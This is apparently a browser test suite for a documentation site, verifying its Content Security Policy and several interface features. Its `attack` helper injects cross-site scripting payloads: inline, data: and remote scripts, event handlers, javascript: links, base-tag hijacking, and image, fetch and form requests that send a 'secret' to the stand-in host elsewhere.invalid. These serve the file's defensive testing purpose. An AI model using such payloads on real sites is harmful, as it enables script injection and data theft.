import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, inject, test } from 'vitest';
import type { Browser, BrowserContext, Page } from 'playwright-core';
import { pagesOf } from '../site/html.ts';
import { launch } from './browser.ts';
import { serve } from './server.ts';

let browser: Browser;
let site: Awaited<ReturnType<typeof serve>>;
let context: BrowserContext | undefined;
let page: Page;
/** What the browser refused since the test began, each with the path of the page. */
let refused: string[];
/** The kinds of request that reached another host. */
let sent: string[];

const ANSWERS: Readonly<Record<string, { readonly contentType: string; readonly body: string }>> = {
  script: { contentType: 'text/javascript', body: "window.ran.push('script of another host')" },
  image: { contentType: 'image/svg+xml', body: '<svg xmlns="http://www.w3.org/2000/svg" width="1" height="1"/>' },
};

beforeAll(async () => {
  browser = await launch();
  site = await serve(inject('dist'), '/');
});
afterAll(async () => {
  await browser.close();
  site.close();
});
beforeEach(() => begin());
afterEach(() => context?.close());

async function begin(width = 1280, bypassCSP = false): Promise<void> {
  await context?.close();
  context = await browser.newContext({ viewport: { width, height: 900 }, bypassCSP });
  await context.route('https://elsewhere.invalid/**', async (route) => {
    const type = route.request().resourceType();
    sent.push(type);
    await route.fulfill(ANSWERS[type] ?? { status: 204 });
  });
  await context.grantPermissions(['clipboard-read', 'clipboard-write']);
  refused = [];
  sent = [];
  await context.exposeFunction('report', (what: string) => refused.push(what));
  await context.addInitScript(() => {
    addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI }) => {
      window.report(`${effectiveDirective} ${blockedURI} on ${(window.top ?? window).location.pathname}`);
    });
  });
  page = await context.newPage();
  // A worker’s complaints reach the console alone.
  page.on('console', (message) => {
    if (/content security policy/iu.test(message.text()))
      refused.push(`${message.text()} on ${new URL(page.url()).pathname}`);
  });
}

declare global {
  interface Window {
    report(what: string): void;
    ran: string[];
  }
}

/** What an attacker would try who got words of theirs into a page. Gives back what of it ran. */
async function attack(): Promise<readonly string[]> {
  const ran: string[] = [];
  window.ran = ran;
  const put = <Name extends keyof HTMLElementTagNameMap>(
    name: Name,
    attributes: Record<string, string>,
  ): HTMLElementTagNameMap[Name] => {
    const element = document.createElement(name);
    for (const [key, value] of Object.entries(attributes)) element.setAttribute(key, value);
    document.body.append(element);
    return element;
  };
  const script = document.createElement('script');
  script.textContent = "window.ran.push('script')";
  document.body.append(script);
  put('script', { src: 'data:text/javascript,window.ran.push("script of data")' });
  put('script', { src: 'https://elsewhere.invalid/x.js' });
  put('button', { onclick: "window.ran.push('handler')" }).click();
  put('a', { href: "javascript:window.ran.push('link')" }).click();
  put('iframe', { srcdoc: "<script>parent.ran.push('frame')</script>" });
  const base = put('base', { href: 'https://elsewhere.invalid/' });
  if (document.baseURI.includes('elsewhere')) ran.push('base');
  base.remove();
  if (getComputedStyle(put('p', { style: 'opacity:0.5' })).opacity === '0.5') ran.push('style attribute');
  const sheet = document.createElement('style');
  sheet.textContent = 'body{opacity:0.5}';
  document.head.append(sheet);
  if (getComputedStyle(document.body).opacity === '0.5') ran.push('style');
  sheet.remove();
  put('img', { src: 'https://elsewhere.invalid/?secret' });
  await fetch('https://elsewhere.invalid/?secret', { mode: 'no-cors' }).catch(() => undefined);
  put('form', { action: 'https://elsewhere.invalid/', method: 'post' }).submit();
  await new Promise((resolve) => setTimeout(resolve, 50));
  // Only now: what a debugger itself calls may make code of strings.
  try {
    (Reflect.construct(Function, ["window.ran.push('made of a string')"]) as () => void)();
  } catch {
    // As it should be.
  }
  return ran;
}

/** A directive for each kind of thing that `attack` tries. */
const BITES = [
  'base-uri',
  'connect-src',
  'form-action',
  'img-src',
  'script-src',
  'script-src-attr',
  'script-src-elem',
  'style-src-attr',
  'style-src-elem',
];

const PAGES = pagesOf(inject('dist')).map((name) => name.replace(/index\.html$/u, ''));

test('every page opens without a refusal, and on every page an attack gets nowhere', { timeout: 300_000 }, async () => {
  expect(PAGES.length).toBeGreaterThan(100);
  for (const name of PAGES) {
    // The attack on the page before may still be answered.
    const here = (): readonly string[] => refused.filter((one) => one.endsWith(` on /${name}`));
    await page.goto(site.address + name, { waitUntil: 'load' });
    await page.evaluate(() => document.fonts.ready.then(() => undefined));
    expect(here()).toEqual([]);

    expect(await page.evaluate(attack), name).toEqual([]);
    expect(sent, name).toEqual([]);
    await expect.poll(() => BITES.filter((kind) => !here().some((one) => one.startsWith(`${kind} `)))).toEqual([]);
  }
});

test('where no policy holds, all of the attack gets through', async () => {
  await begin(1280, true);
  await page.goto(site.address);
  const ran = await page.evaluate(attack);
  expect(ran.toSorted()).toEqual([
    'base',
    'frame',
    'handler',
    'link',
    'made of a string',
    'script',
    'script of another host',
    'script of data',
    'style',
    'style attribute',
  ]);
  await expect.poll(() => sent.toSorted()).toEqual(['document', 'fetch', 'image', 'script']);
});

test('a script that was changed after the build does not run', async () => {
  await page.route(site.address, async (route) => {
    const response = await route.fetch();
    const body = (await response.text()).replace(
      'window.StarlightThemeProvider = ',
      'window.ran = ["changed"]; window.StarlightThemeProvider = ',
    );
    expect(body).toContain('["changed"]');
    await route.fulfill({ response, body });
  });
  await page.goto(site.address);
  expect(await page.evaluate(() => Reflect.get(window, 'ran') as unknown)).toBeUndefined();
  expect(refused.join()).toContain('script-src-elem inline');
});

describe('nothing is refused', () => {
  afterEach(() => {
    expect(refused).toEqual([]);
  });

  test.each([
    ['in a worker', false],
    ['without workers', true],
  ])('while search answers, %s', async (_, without) => {
    if (without) await page.addInitScript(() => void Reflect.deleteProperty(window, 'Worker'));
    await page.goto(site.address);
    const workers: string[] = [];
    page.on('worker', (worker) => workers.push(worker.url()));
    await page.locator('site-search button[aria-keyshortcuts]').click();
    await page.locator('site-search input').pressSequentially('not enough depth');
    const first = page.locator('site-search li a').first();
    await first.waitFor();
    expect(await first.getAttribute('href')).toContain('insufficient-leadership-evidence');
    expect(workers.length).toBe(without ? 0 : 1);
    await page.keyboard.press('ArrowDown');
    await page.keyboard.press('Enter');
    await page.waitForURL('**/insufficient-leadership-evidence/');
  });

  test('while the theme switches and a page opens in it', async () => {
    await page.goto(site.address);
    for (const theme of ['dark', 'light', 'auto']) {
      await page.selectOption('starlight-theme-select select >> visible=true', theme);
      await page.reload();
      if (theme !== 'auto') expect(await page.getAttribute('html', 'data-theme')).toBe(theme);
    }
  });

  test('while a phone’s menu and contents open', async () => {
    await begin(390);
    await page.goto(`${site.address}framework/your-own-copy/`);
    const link = page.locator('.sidebar a[href="/questions/"]');
    expect(await link.isVisible()).toBe(false);
    await page.locator('button[popovertarget], starlight-menu-button button').first().click();
    await link.waitFor();
    await page.keyboard.press('Escape');
    await page.locator('mobile-starlight-toc summary').click();
    await page.locator('mobile-starlight-toc a').nth(1).click();
    expect(new URL(page.url()).hash).not.toBe('');
  });

  test('while code is copied', async () => {
    await page.goto(`${site.address}framework/your-own-copy/`);
    const block = page.locator('.expressive-code').first();
    await block.hover();
    await block.locator('.copy button').click();
    const line = (await block.locator('.ec-line').first().innerText()).trim();
    await expect.poll(() => page.evaluate(() => navigator.clipboard.readText())).toContain(line);
  });

  test('while questions are filtered', async () => {
    await page.goto(`${site.address}questions/`);
    await page.selectOption('question-filter [name=level]', 'L7');
    expect(await page.locator('question-filter output').textContent()).toMatch(/^\d+ shown$/u);
    expect(await page.locator('[data-question][hidden]').count()).toBeGreaterThan(0);
  });

  test('while patterns are looked for, filtered and opened with Enter', async () => {
    await page.goto(`${site.address}patterns/`);
    await page.selectOption('pattern-finder [name=outcome]', { label: 'Rejected, later hired' });
    await expect.poll(() => page.locator('pattern-finder output').textContent()).toMatch(/ fits?$/u);
    await page.selectOption('pattern-finder [name=outcome]', { index: 0 });
    await page.locator('pattern-finder input').fill('too nice');
    await expect.poll(() => page.locator('pattern-finder [data-card]:visible').count()).toBeLessThan(10);
    await page.keyboard.press('Enter');
    await page.waitForURL('**/patterns/conflict-avoidance/');
  });

  test('while told and retold switch and a note is followed', async () => {
    await begin(390);
    await page.goto(`${site.address}case-studies/l6-we-for-i/`);
    await page.locator('.pair label', { hasText: 'Retold' }).first().click();
    expect(await page.locator('.pair .retold').first().isVisible()).toBe(true);
    await page.locator('.pair .retold .ref').first().click();
    expect(new URL(page.url()).hash).not.toBe('');
  });
});

test('code is coloured though no attribute says so', async () => {
  await page.goto(`${site.address}templates/feedback-request/`);
  for (const theme of ['dark', 'light']) {
    await page.selectOption('starlight-theme-select select >> visible=true', theme);
    const colours = await page.$$eval('.ec-line .code span', (tokens) =>
      tokens.map((token) => [getComputedStyle(token).color, getComputedStyle(token).fontWeight].join()),
    );
    expect(new Set(colours).size, theme).toBeGreaterThan(2);
  }
});

test('what is drawn to measure keeps its measure', async () => {
  await page.goto(`${site.address}framework/six-month-plan/`);
  const bars = await page.$$eval('.plan .phase', (phases) =>
    phases.map((phase) => phase.getBoundingClientRect()).map(({ left, right }) => ({ left, right })),
  );
  expect(bars.length).toBeGreaterThan(3);
  for (const [index, { left, right }] of bars.entries()) {
    expect(right).toBeGreaterThan(left + 10);
    expect(left).toBeGreaterThan(bars[index - 1]?.left ?? 0);
  }
});
